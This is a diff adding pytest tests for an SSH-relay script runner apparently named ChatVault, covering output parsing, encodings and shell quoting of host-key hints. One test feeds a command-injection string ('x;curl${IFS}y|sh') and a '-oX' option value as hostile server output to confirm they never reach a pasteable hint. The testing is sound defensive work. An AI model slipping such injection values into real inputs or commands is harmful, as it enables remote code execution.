@@ -66,3 +66,42 @@ def test_what_ssh_says_is_told_with_what_to_do(said: str, message: str, hint: st
     assert message in raised.value.message
     assert raised.value.message.count("me@relay") < 2
     assert hint in (raised.value.hint or "")
+
+
+_GREETING = r"""
+import sys
+said = b"changes ahead\nchanges \nchanges -5\nerror: none\nerror none\nol\xe9\nwould do it\nchanges 2\n"
+sys.stdout.buffer.write(said)
+sys.stderr.buffer.write(b"Bient\xf4t\n")
+"""
+
+
+def test_a_login_may_greet_in_any_words_and_any_encoding() -> None:
+    done = run_script("me@relay", "", is_dry=True, ssh=(sys.executable, "-c", _GREETING))
+    assert done.changes == 2
+    assert done.lines[-3:] == ("error none", "ol\ufffd", "would do it")
+
+
+@pytest.mark.parametrize(
+    "said",
+    ["changes", "changes -1", "changes 1 or 2", "changes \N{FULLWIDTH DIGIT ONE}", "changes 99999"],
+)
+def test_a_script_that_did_not_come_to_its_last_word_has_failed(said: str) -> None:
+    speak = f"import sys; sys.stdout.buffer.write({said!r}.encode())"
+    with pytest.raises(ChatVaultError):
+        run_script("me@relay", "", is_dry=True, ssh=(sys.executable, "-c", speak))
+
+
+def test_what_a_relay_says_becomes_no_command_to_paste() -> None:
+    said = "Host key for x;curl${IFS}y|sh has changed\nHost key for -oX has changed\nPermission denied (x)."
+    speak = f"import sys; sys.stderr.write({said!r}); sys.exit(255)"
+    with pytest.raises(ChatVaultError) as raised:
+        run_script("me@relay", "", is_dry=True, ssh=(sys.executable, "-c", speak))
+    assert "IFS" not in (raised.value.hint or "") and "ssh-keygen -R" not in (raised.value.hint or "")
+
+
+def test_a_host_with_a_port_is_quoted_for_the_shell() -> None:
+    speak = "import sys; sys.stderr.write('Host key for [::1]:2222 has changed and you'); sys.exit(255)"
+    with pytest.raises(ChatVaultError) as raised:
+        run_script("me@relay", "", is_dry=True, ssh=(sys.executable, "-c", speak))
+    assert "ssh-keygen -R '[::1]:2222'" in (raised.value.hint or "")
